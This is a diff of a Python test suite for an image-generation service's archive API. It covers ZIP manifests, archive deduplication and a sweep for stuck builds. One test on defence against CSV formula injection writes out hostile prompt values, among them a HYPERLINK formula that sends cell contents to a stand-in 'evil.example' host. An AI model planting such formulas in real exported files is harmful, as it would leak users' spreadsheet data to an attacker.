@@ -5,8 +5,10 @@ from __future__ import annotations
 import csv
 import io
 import os
+import time
 import zipfile
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
 
 import boto3
 import requests
@@ -14,12 +16,21 @@ from PIL import Image
 from ulid import ULID
 
 from chalicelib.db import ImageModel
-from chalicelib.services import archives
+from chalicelib.db.images import save_new_image
+from chalicelib.db.jobs import ArchiveModel
+from chalicelib.services import archives, stuck
 from chalicelib.settings import get_settings
 from tests import openapi_check
 from tests.fixtures.worker import wait_for
 
-MODEL = "black-forest-labs/FLUX.1-schnell-Free"
+MODEL = "black-forest-labs/FLUX.1-schnell"
+PARTI = Path("/work/shared/data/parti_prompts.tsv")
+
+
+def parti_prompts() -> list[str]:
+    """The real prompts of PartiPrompts (column ``Prompt``), in file order."""
+    with PARTI.open(encoding="utf-8", newline="") as fh:
+        return [row["Prompt"].strip() for row in csv.DictReader(fh, delimiter="\t") if row["Prompt"].strip()]
 
 
 def make_images(user: str, n: int, collection: str | None = None) -> list[ImageModel]:
@@ -53,9 +64,8 @@ def make_images(user: str, n: int, collection: str | None = None) -> list[ImageM
                 created_at=base + timedelta(seconds=i),
             )
         )
-    with ImageModel.batch_write() as batch:
-        for image in images:
-            batch.save(image)
+    for image in images:  # the app's write path: collection counters move with the items
+        save_new_image(image)
     return images
 
 
@@ -158,3 +168,115 @@ def test_job_and_collection_archives_and_validation(api, worker):
     job = api.post("/v1/jobs", user="albums", json_body={"prompts": ["x"], "width": 256, "height": 256})
     empty = api.post(f"/v1/jobs/{job.json['job_id']}/archive", user="albums")
     assert empty.status == 409 and empty.json["error"]["code"] == "nothing-to-archive"
+
+
+def test_manifest_cells_that_look_like_formulas_open_as_text(api, worker):
+    """OWASP CSV injection: a prompt starting with = + - @, tab or CR is written to
+    manifest.csv with a leading single quote; the JSON API keeps the exact prompt."""
+    real = parti_prompts()[100:106]
+    attacks = [
+        f'=HYPERLINK("http://evil.example/?"&A1,"{real[0]}")',
+        f"+1+1 {real[1]}",
+        f"@SUM(1,1) {real[2]}",
+        f"-2+3 {real[3]}",
+        f"\t=1+1 {real[4]}",
+        f"\r=1+1 {real[5]}",
+    ]
+    images = make_images("formulas", len(attacks))
+    for image, prompt in zip(images, attacks, strict=True):
+        image.prompt = prompt
+        image.save()
+    made = api.post("/v1/archives", user="formulas", json_body={"image_ids": [i.image_id for i in images]})
+    assert made.status == 201, made.body
+    zf = open_zip(made.json["url"])
+    rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode("utf-8"), newline="")))
+    assert [row["prompt"] for row in rows] == ["'" + p for p in attacks]
+    assert [row["model"] for row in rows] == [MODEL] * len(attacks)  # other cells untouched
+    for image, prompt in zip(images, attacks, strict=True):
+        assert api.get(f"/v1/images/{image.image_id}", user="formulas").json["prompt"] == prompt
+
+
+def archives_of(user: str) -> list[ArchiveModel]:
+    return list(ArchiveModel.query(user, consistent_read=True))
+
+
+def test_identical_archive_requests_share_one_build(api, worker):
+    """Same user, same selection, while it builds or is freshly ready: the same archive."""
+    images = make_images("twice", 25)  # over the inline size: queued
+    ids = [i.image_id for i in images]
+    first = api.post("/v1/archives", user="twice", json_body={"image_ids": ids})
+    again = api.post("/v1/archives", user="twice", json_body={"image_ids": ids})
+    assert first.status == again.status == 202, again.body
+    assert again.json["archive_id"] == first.json["archive_id"]
+    other_order = api.post("/v1/archives", user="twice", json_body={"image_ids": ids[::-1]})
+    assert other_order.json["archive_id"] != first.json["archive_id"]  # another selection, another ZIP
+    theirs = make_images("twice-other", 1)
+    mine_small = api.post("/v1/archives", user="twice", json_body={"image_ids": ids[:3]})
+    assert mine_small.status == 201
+    assert api.post("/v1/archives", user="twice", json_body={"image_ids": ids[:3]}).json == mine_small.json
+    other_user = api.post("/v1/archives", user="twice-other", json_body={"image_ids": [theirs[0].image_id]})
+    assert other_user.status == 201 and other_user.json["archive_id"] != mine_small.json["archive_id"]
+    assert len(archives_of("twice")) == 3  # the duplicates left no record behind
+    worker.start()
+    archive_id = first.json["archive_id"]
+    wait_for(
+        lambda: api.get(f"/v1/archives/{archive_id}", user="twice").json["status"] == "ready",
+        what="(archive to be built)",
+    )
+    ready = api.post("/v1/archives", user="twice", json_body={"image_ids": ids})
+    assert ready.status == 201 and ready.json["archive_id"] == archive_id and ready.json["status"] == "ready"
+    # a failed archive is not handed out again: the next request builds a new one
+    ArchiveModel("twice", mine_small.json["archive_id"]).update(actions=[ArchiveModel.status.set("failed")])
+    fresh = api.post("/v1/archives", user="twice", json_body={"image_ids": ids[:3]})
+    assert fresh.status == 201 and fresh.json["archive_id"] != mine_small.json["archive_id"]
+
+
+def saved_archive(user: str, image_ids: list[str], status: str, **attrs) -> ArchiveModel:
+    """An archive record as a request (or a build that died) left it."""
+    archive_id = str(ULID())
+    archive = ArchiveModel(
+        user,
+        archive_id,
+        status=status,
+        source="images",
+        image_ids=image_ids,
+        s3_key=archives.archive_key(user, archive_id),
+        image_count=len(image_ids),
+        **{"attempts": 0, **attrs},
+    )
+    archive.save()
+    return archive
+
+
+def test_the_sweep_finishes_archives_whose_enqueue_or_inline_setup_failed(api, worker):
+    """SQS unreachable at enqueue: the archive answers queued and the sweep sends it
+    later. S3 refusing the multipart upload of an inline build: the archive goes back to
+    queued and on the queue, not building forever. A build that died holding its lease
+    is resent by the sweep; one still unfinished past the give-up age is failed."""
+    images = make_images("stuck", 25)
+    ids = [i.image_id for i in images]
+    queue_name, bucket = get_settings().jobs_queue_name, get_settings().images_bucket
+    worker.configure(JOBS_QUEUE_NAME="promptcanvas-no-such-queue")
+    queued = api.post("/v1/archives", user="stuck", json_body={"image_ids": ids})
+    assert queued.status == 202 and queued.json["status"] == "queued", queued.body
+    worker.configure(JOBS_QUEUE_NAME=queue_name, IMAGES_BUCKET="promptcanvas-no-such-bucket")
+    inline = api.post("/v1/archives", user="stuck", json_body={"image_ids": ids[:2]})
+    assert inline.status == 202 and inline.json["status"] == "queued", inline.body
+    worker.configure(IMAGES_BUCKET=bucket)
+    # a build that died holding its lease (no message left), and one abandoned long ago
+    died = ArchiveModel.get("stuck", inline.json["archive_id"])
+    now = time.time()
+    crashed = saved_archive("stuck", ids[:4], "building", created_at=now - 700, attempts=1, lease_until=now - 1)
+    abandoned = saved_archive("stuck", ids[:5], "queued", created_at=now - archives.ARCHIVE_GIVE_UP_S - 10)
+    report = stuck.sweep(now=now + archives.ARCHIVE_ENQUEUE_GRACE_S + 1)
+    assert report["counts"]["archives_failed"] == 1
+    assert report["counts"]["archives_resent"] == 2  # the never-enqueued one and the crashed build
+    assert ArchiveModel.get("stuck", abandoned.archive_id).status == "failed"
+    worker.start()
+    for archive_id in (queued.json["archive_id"], died.archive_id, crashed.archive_id):
+        wait_for(
+            lambda a=archive_id: api.get(f"/v1/archives/{a}", user="stuck").json["status"] == "ready",
+            what=f"(archive {archive_id} to be built)",
+        )
+    counts = stuck.sweep()["counts"]
+    assert "archives_failed" not in counts and "archives_resent" not in counts
